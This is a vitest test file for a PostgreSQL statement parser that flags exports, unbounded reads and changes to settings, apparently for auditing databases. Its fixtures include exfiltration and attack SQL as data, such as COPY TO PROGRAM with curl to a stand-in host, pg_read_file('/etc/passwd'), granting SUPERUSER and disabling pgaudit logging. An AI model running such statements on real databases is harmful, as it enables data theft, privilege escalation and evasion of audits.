import { describe, expect, it } from 'vitest';
import { leadingWords } from '../../../analysis/sql-lexer.js';
import { parseStatements, type ParsedStatement } from '../../../analysis/sql-statements.js';
import { postgresDialect } from './dialect.js';

const pg = (...statements: string[]) => parseStatements(postgresDialect, statements.map((statement) => ({ statement })));
const one = async (result: Promise<ParsedStatement[]>) => {
  const list = await result;
  expect(list).toHaveLength(1);
  return list[0]!;
};
const brief = (s: ParsedStatement) => ({ kind: s.kind, command: s.command });

describe('PostgreSQL statements', () => {
  it('classifies statements by what they do', async () => {
    const parsed = await pg(
      'SELECT id FROM sales.orders WHERE id = 1',
      "INSERT INTO sales.orders (id) VALUES (1)",
      "UPDATE sales.orders SET state = 'x' WHERE id = 1",
      'DELETE FROM sales.orders WHERE id = 1',
      'TRUNCATE sales.orders',
      'CREATE TABLE sales.t (id int)',
      'DROP TABLE sales.t',
      'GRANT SELECT ON sales.orders TO reporting',
      "CREATE USER helper PASSWORD 'x'",
      'ALTER ROLE helper SUPERUSER',
      'COPY sales.orders TO STDOUT',
      "COPY sales.orders FROM '/tmp/orders.csv'",
      "SET statement_timeout = '5s'",
      'SET ROLE postgres',
      'BEGIN',
      'SHOW work_mem',
    );
    expect(parsed.map(brief)).toEqual([
      { kind: 'select', command: 'SELECT' },
      { kind: 'insert', command: 'INSERT' },
      { kind: 'update', command: 'UPDATE' },
      { kind: 'delete', command: 'DELETE' },
      { kind: 'delete', command: 'TRUNCATE' },
      { kind: 'ddl', command: 'CREATE TABLE' },
      { kind: 'ddl', command: 'DROP TABLE' },
      { kind: 'dcl', command: 'GRANT' },
      { kind: 'dcl', command: 'CREATE USER' },
      { kind: 'dcl', command: 'ALTER ROLE' },
      { kind: 'copy', command: 'COPY TO' },
      { kind: 'copy', command: 'COPY FROM FILE' },
      { kind: 'set', command: 'SET' },
      { kind: 'set', command: 'SET ROLE' },
      { kind: 'transaction', command: 'BEGIN' },
      { kind: 'utility', command: 'SHOW' },
    ]);
    expect(parsed.every((s) => s.parsed)).toBe(true);
  });

  it('splits one log entry into its statements, and comments hide none of them', async () => {
    const parsed = await pg("SELECT 1; /* a comment; with a semicolon */ DROP TABLE sales.orders -- and one ; here\n; SELECT 'a;b'");
    expect(parsed.map((s) => s.command)).toEqual(['SELECT', 'DROP TABLE', 'SELECT']);
    expect(parsed[1]!.objects).toEqual([{ schema: 'sales', name: 'orders', access: 'ddl' }]);
    expect(parsed.every((s) => s.entry === 0)).toBe(true);
  });

  it('keeps dollar-quoted bodies and non-ASCII text in one piece', async () => {
    const parsed = await pg("SELECT 'é€'; DO $$ BEGIN PERFORM 1; PERFORM 2; END $$; DELETE FROM t WHERE id = 1");
    // The block stays one piece; what it runs follows it (PERFORM runs a SELECT), read out of the body by PL/pgSQL's parser.
    expect(parsed.map((s) => s.text)).toEqual(["SELECT 'é€'", 'DO $$ BEGIN PERFORM 1; PERFORM 2; END $$', 'SELECT 1', 'SELECT 2', 'DELETE FROM t WHERE id = 1']);
    expect(parsed.map((s) => s.command)).toEqual(['SELECT', 'DO', 'SELECT', 'SELECT', 'DELETE']);
  });

  it('names what is read and what is changed, without CTE names', async () => {
    const insert = await one(pg('WITH recent AS (SELECT * FROM sales.orders WHERE created_at > now() - interval \'1 day\') INSERT INTO archive.orders SELECT * FROM recent'));
    expect(insert.objects).toEqual(expect.arrayContaining([{ schema: 'archive', name: 'orders', access: 'write' }, { schema: 'sales', name: 'orders', access: 'read' }]));
    expect(insert.objects).toHaveLength(2);
    expect(insert.selectStar).toBe(true);
    const temp = await one(pg('CREATE TEMP TABLE scratch AS SELECT id FROM sales.orders'));
    expect(temp.command).toBe('CREATE TEMP TABLE AS');
    expect(temp.objects).toContainEqual({ schema: 'pg_temp', name: 'scratch', access: 'ddl' });
    const dropSchema = await one(pg('DROP SCHEMA staging CASCADE'));
    expect(dropSchema.objects).toEqual([{ schema: 'staging', name: '*', access: 'ddl' }]);
  });

  it('tells whole-table reads and changes from bounded ones', async () => {
    const [all, filtered, limited, counted, aggregated, star, update, trueUpdate, deleteAll] = await pg(
      'SELECT email FROM crm.customers',
      'SELECT email FROM crm.customers WHERE id = 4',
      'SELECT * FROM crm.customers LIMIT 20',
      'SELECT count(*) FROM crm.customers',
      "SELECT string_agg(email, ',') FROM crm.customers",
      'SELECT c.* FROM crm.customers c WHERE id = 4',
      "UPDATE sales.orders SET state = 'x' WHERE id = 4",
      "UPDATE sales.orders SET state = 'x' WHERE 1 = 1",
      'DELETE FROM sales.orders',
    );
    expect([all, filtered, limited, counted, aggregated].map((s) => s!.unbounded)).toEqual([true, false, false, false, true]);
    expect(limited!.limit).toBe(20);
    expect([all, limited, star].map((s) => s!.selectStar)).toEqual([false, true, true]);
    expect([update, trueUpdate, deleteAll].map((s) => s!.unbounded)).toEqual([false, true, true]);
  });

  it('marks exports and server file access', async () => {
    const parsed = await pg(
      'COPY (SELECT * FROM crm.customers) TO STDOUT WITH CSV',
      "SELECT pg_read_file('/etc/passwd')",
      "SELECT lo_export(16401, '/tmp/dump')",
      "COPY sales.orders TO PROGRAM 'curl -T - https://example.invalid'",
      'SELECT id FROM sales.orders WHERE id = 1',
    );
    expect(parsed.map((s) => s.export)).toEqual([true, true, true, true, false]);
    expect(parsed[3]!.command).toBe('COPY TO PROGRAM');
    expect(parsed[1]!.functions).toEqual(['pg_read_file']);
  });

  it('reads EXPLAIN ANALYZE and PREPARE as the statement that runs', async () => {
    const [analyze, plan, prepared] = await pg('EXPLAIN ANALYZE DELETE FROM sales.orders', 'EXPLAIN DELETE FROM sales.orders', 'PREPARE wipe AS DELETE FROM sales.orders');
    expect([analyze, prepared].map((s) => [s!.kind, s!.unbounded])).toEqual([['delete', true], ['delete', true]]);
    expect(plan!.kind).toBe('utility');
    expect(plan!.objects).toEqual([{ name: 'orders', schema: 'sales', access: 'read' }]);
  });

  it('records settings and the schema unqualified names will mean', async () => {
    const [path, audit, config] = await pg("SET search_path TO sales, public", "SET pgaudit.log = 'none'", "SELECT set_config('log_statement', 'none', false)");
    expect(path!.switchesTo).toBe('sales');
    expect(audit!.settings).toEqual(['pgaudit.log']);
    expect(config!.settings).toEqual(['log_statement']);
  });

  it('turns text it cannot parse into kind other, and reads on after it', async () => {
    const parsed = await pg('SELEC * FROM sales.orders; DROP TABLE sales.orders', "SELECT 'never closed", '');
    expect(parsed.map((s) => [s.kind, s.command, s.parsed])).toEqual([
      ['other', 'SELEC', false],
      ['ddl', 'DROP TABLE', true],
      ['other', 'SELECT', false],
      ['utility', 'EMPTY', true],
    ]);
  });
});

describe('leadingWords', () => {
  it('skips comments and modifiers', () => {
    expect(leadingWords(postgresDialect.lexical, '-- note\nCREATE OR REPLACE /* x */ VIEW v AS SELECT 1')).toBe('CREATE VIEW');
  });
});

describe('limits written as parameters', () => {
  it('counts LIMIT $1 (pg_stat_statements text) as bounded and LIMIT ALL as not', async () => {
    const [param, all] = await parseStatements(postgresDialect, [{ statement: 'SELECT * FROM sales.customers LIMIT $1' }, { statement: 'SELECT * FROM sales.customers LIMIT ALL' }]);
    expect(param!.unbounded).toBe(false);
    expect(all!.unbounded).toBe(true);
  });
});
